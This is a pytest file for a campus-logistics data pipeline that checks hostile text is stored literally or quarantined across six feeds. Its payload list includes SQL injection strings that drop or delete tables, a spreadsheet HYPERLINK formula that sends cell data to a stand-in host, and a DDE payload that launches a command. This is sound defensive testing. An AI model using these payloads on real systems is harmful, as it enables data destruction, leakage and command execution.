"""Hostile text in every feed's text fields: SQL, spreadsheet formulas, control characters, quotes,
bidi overrides. Every statement built from data is parameterised (or COPY'd), so a free-text field
stores the text literally, a field checked against a list quarantines it under its rule (the record
holding the text literally), and every table is intact. A NUL byte, which PostgreSQL text cannot
hold, fails its file with rule ``no_nul_bytes`` instead of crashing the run."""

from __future__ import annotations

import hashlib
import hmac
import os
from datetime import date

import pytest

from campus_logistics.pipeline import run_feed
from tests.fixtures import purchase, reversal, write_canteen, write_csv
from tests.fixtures_meters import write_meter_ref, write_meters
from tests.fixtures_monthly import write_ledger, write_monthly_ref, write_staff
from tests.fixtures_tickets import SURVEY_HEAD, at, t, ticket, write_sla, write_survey, write_work_orders

PAYLOADS = [
    "'; DROP TABLE core.canteen_txn; --",
    "x'); DELETE FROM quality.rejected_rows WHERE ('1'='1",
    '=HYPERLINK("http://evil.invalid/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2", "-3+4",
    "a\x01b\x07c\x1b[31md\x7f",
    'say "hi", \\N \\. \t tab',
    "\u202eevil\u200b\ufeffzero",
    "$$; SELECT pg_sleep(0); $$",
]
D = date.fromisoformat

pytestmark = pytest.mark.server_only  # server-independent: one pass


def _tables(sql) -> list[tuple]:
    return sql("""SELECT n.nspname, c.relname, c.relkind FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
                  WHERE n.nspname IN ('core', 'quality', 'mart', 'staging') AND NOT c.relispartition
                    AND c.relkind IN ('r', 'p', 'v', 'm', 'S', 'f') ORDER BY 1, 2""")  # loads add monthly partitions


def _recon(sql, feed):
    return {f: (r, lo, q, d) for f, r, lo, q, d in sql(
        "SELECT file, rows_read, rows_loaded, rows_quarantined, rows_duplicate FROM quality.file_reconciliation "
        "WHERE feed = %s", (feed,))}


def _quarantined(sql, feed):
    return [(rule, rec) for rule, rec in sql(
        "SELECT rule, record FROM quality.rejected_rows WHERE feed = %s ORDER BY row_number", (feed,))]


def _load(feed, landing, start, end):
    result = run_feed(feed, landing, D(start), D(end), allow_missing=True)
    assert result.rejected == [], result.rejected
    return result


def test_hostile_text_in_every_feed_is_stored_literally_or_quarantined(landing, warehouse, sql):
    n = len(PAYLOADS)
    tables_before = _tables(sql)
    write_monthly_ref(landing)
    write_meter_ref(landing)
    write_sla(landing)

    # canteen: 流水号, 终端号 and 原流水号 are free text; 商户名称 must be a known outlet
    rows = [purchase(f"P{i}{p}", f"9{i}", "2001-03-05 12:00:00", terminal=p) for i, p in enumerate(PAYLOADS)]
    rows += [reversal(f"R{i}", f"9{i}", "2001-03-05 12:30:00", orig=f"P{i}{p}", amount="-10.00")
             for i, p in enumerate(PAYLOADS)]
    rows += [purchase(f"Q{i}", "8", "2001-03-05 13:00:00", outlet=p) for i, p in enumerate(PAYLOADS)]
    write_canteen(landing, "2001-03-05", rows)
    _load("canteen", landing, "2001-03-05", "2001-03-05")
    assert _recon(sql, "canteen") == {"canteen_20010305.csv": (3 * n, 2 * n, n, 0)}
    stored = dict(sql("SELECT txn_id, terminal FROM core.canteen_txn WHERE txn_type = 'purchase'"))
    assert stored == {f"P{i}{p}": p for i, p in enumerate(PAYLOADS)}
    assert {r[0] for r in sql("SELECT orig_txn_id FROM core.canteen_txn WHERE txn_type = 'reversal'")} == set(stored)
    q = _quarantined(sql, "canteen")
    assert [(rule, rec["商户名称"]) for rule, rec in q] == [("outlet_known", p) for p in PAYLOADS]

    # meters: meter_id must be a known meter, status a known status
    write_meters(landing, "2001-03-01", [(p, "2001-03-01T12:00:00+08:00", "1", "ok") for p in PAYLOADS]
                 + [("E1", "2001-03-01T12:00:00+08:00", "5", p) for p in PAYLOADS[:1]])
    _load("meters", landing, "2001-03-01", "2001-03-01")
    assert _recon(sql, "meters") == {"meters_20010301.csv": (n + 1, 0, n + 1, 0)}
    q = _quarantined(sql, "meters")
    assert sorted((rule, rec["meter_id"], rec["status"]) for rule, rec in q) == sorted(
        [("meter_known", p, "ok") for p in PAYLOADS] + [("status_known", "E1", PAYLOADS[0])])

    # staff: staff_id is pseudonymised (the pseudonym of the text, whatever it is); unit must be known
    key = os.environ["CAMPUS_LOGISTICS_PSEUDONYM_KEY"].encode()
    write_staff(landing, "2001-03", [("2001-03", p, "catering", "cook", "social_hire", "centre", "100.00")
                                     for p in PAYLOADS]
                + [("2001-03", "S9", p, "cook", "social_hire", "centre", "100.00") for p in PAYLOADS[:1]])
    _load("staff", landing, "2001-03-01", "2001-03-31")
    assert _recon(sql, "staff") == {"staff_200103.csv": (n + 1, n, 1, 0)}
    assert {r[0] for r in sql("SELECT staff_hash FROM core.staff_month")} == {
        hmac.new(key, p.strip().encode(), hashlib.sha256).hexdigest() for p in PAYLOADS}
    assert [(rule, rec["unit_code"]) for rule, rec in _quarantined(sql, "staff")] == [("unit_known", PAYLOADS[0])]

    # ledger: category and memo are free text
    write_ledger(landing, "2001-03", [("2001-03", "catering", "cost", p, "1.00", "centre", p) for p in PAYLOADS])
    _load("ledger", landing, "2001-03-01", "2001-03-31")
    assert _recon(sql, "ledger") == {"ledger_200103.csv": (n, n, 0, 0)}
    assert sorted(sql("SELECT category, memo FROM core.ledger_line")) == sorted((p, p) for p in PAYLOADS)

    # work orders: order_id, building_code and room are free text; unit_code must be known
    tickets = [ticket(f"W{i}{p}", "电路", "utilities", t("03-05 09:00"), building=p, room=p)
               for i, p in enumerate(PAYLOADS)]
    tickets += [ticket("WX", "电路", p, t("03-05 09:00")) for p in PAYLOADS[:1]]
    write_work_orders(landing, "2001-03-05", tickets)
    _load("work_orders", landing, "2001-03-05", "2001-03-05")
    assert _recon(sql, "work_orders") == {"work_orders_20010305.json": (n + 1, n, 1, 0)}
    assert sorted(sql("SELECT order_id, building_code, room FROM core.work_order")) == sorted(
        (f"W{i}{p}", p, p) for i, p in enumerate(PAYLOADS))
    assert [(rule, rec["unit_code"]) for rule, rec in _quarantined(sql, "work_orders")] == [("unit_known", PAYLOADS[0])]

    # surveys: 序号 is free text; 身份 must be a known holder type (a workbook cannot hold control characters)
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cells = [p for p in PAYLOADS if not ILLEGAL_CHARACTERS_RE.search(p)]
    write_survey(landing, "2001-06-15", SURVEY_HEAD + ["水电中心"],
                 [[p, at("2001-06-12", "09:00"), "学生", "满意"] for p in cells]
                 + [["S-X", at("2001-06-12", "09:00"), p, "满意"] for p in PAYLOADS[:1]])
    _load("surveys", landing, "2001-06-15", "2001-06-15")
    # text starting with "=" becomes a formula cell, whose value the workbook does not hold: 序号 missing
    formulas = [p for p in cells if p.startswith("=")]
    texts = [p for p in cells if p not in formulas]
    assert _recon(sql, "surveys") == {"survey_20010615.xlsx": (len(cells) + 1, len(texts), len(formulas) + 1, 0)}
    assert sorted(r[0] for r in sql("SELECT response_no FROM core.survey_answer")) == sorted(p.strip() for p in texts)
    assert [(rule, rec["序号"], rec["身份"]) for rule, rec in _quarantined(sql, "surveys")] == [
        ("response_no_present", None, "学生") for _ in formulas] + [("holder_type_known", "S-X", PAYLOADS[0])]

    assert _tables(sql) == tables_before  # nothing dropped, nothing created


@pytest.mark.parametrize("feed, write, start", [
    ("canteen", lambda root: write_canteen(root, "2001-03-05", [
        purchase("A1", "1", "2001-03-05 07:30:00"), purchase("A2", "2", "2001-03-05 07:31:00", terminal="a\x00b")]),
     "2001-03-05"),
    ("meters", lambda root: (write_meter_ref(root), write_meters(root, "2001-03-01", [
        ("E1", "2001-03-01T12:00:00+08:00", "1\x00", "ok")])), "2001-03-01"),
    ("work_orders", lambda root: (write_sla(root), write_work_orders(root, "2001-03-05", [
        ticket("W\x00", "电路", "utilities", t("03-05 09:00"))])), "2001-03-05"),
])
def test_nul_byte_fails_the_file_naming_the_line(feed, write, start, landing, warehouse, sql):
    write(landing)
    result = run_feed(feed, landing, D(start), D(start))
    [rejected] = result.rejected
    assert rejected["rule"] == "no_nul_bytes" and "line" in rejected["detail"], rejected
    assert sql("SELECT count(*) FROM quality.file_reconciliation")[0][0] == 0
    assert sql("SELECT success FROM quality.validation_result WHERE feed = %s", (feed,)) == [(False,)]


def test_nul_byte_in_a_reference_file_fails_naming_file_and_line(landing, warehouse):
    from campus_logistics.errors import FileRejected

    write_csv(landing / "ref" / "outlets.csv", ["outlet_name", "outlet_code", "unit_code", "operator"],
              [("第一食堂", "C1", "catering", "centre"), ("第二\x00食堂", "C2", "catering", "centre")])
    write_canteen(landing, "2001-03-05", [purchase("A1", "1", "2001-03-05 07:30:00")])
    with pytest.raises(FileRejected, match=r"outlets.csv.*no_nul_bytes.*line 3"):
        run_feed("canteen", landing, D("2001-03-05"), D("2001-03-05"))
